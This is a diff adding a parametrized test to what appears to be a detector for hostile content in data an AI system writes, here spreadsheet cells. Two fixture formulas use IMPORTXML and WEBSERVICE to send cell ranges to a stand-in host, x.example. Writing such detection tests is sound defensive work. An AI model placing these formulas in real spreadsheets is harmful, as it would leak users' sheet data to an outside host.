@@ -109,3 +109,16 @@ def test_documents_that_a_system_acts_on_are_read(document: str, severity: Sever
 
 def test_ordinary_documents_have_no_finding() -> None:
     assert not list(find_documents(subject({"content": "kind: Deployment\nmetadata:\n  name: shop\n"}, "apply")))
+
+
+@pytest.mark.parametrize(
+    ("cell", "told"),
+    [
+        ('=IFERROR(IMPORTXML(CONCATENATE("https://x.example/?c=", TEXTJOIN("|", TRUE, B2:D60)), "//r"), "ok")', True),
+        ('+WEBSERVICE("https://x.example/?c="&A1)', True),
+        ("=SUM(A1:A9)*1.19 + ROUND(B2, 2)", False),
+        ("Use IMPORTXML(url, path) in a sheet.", False),
+    ],
+)
+def test_a_formula_that_reaches_out_is_told(cell: str, told: bool) -> None:
+    assert bool(list(find_documents(subject({"data": [[cell]]}, "update_cells")))) is told
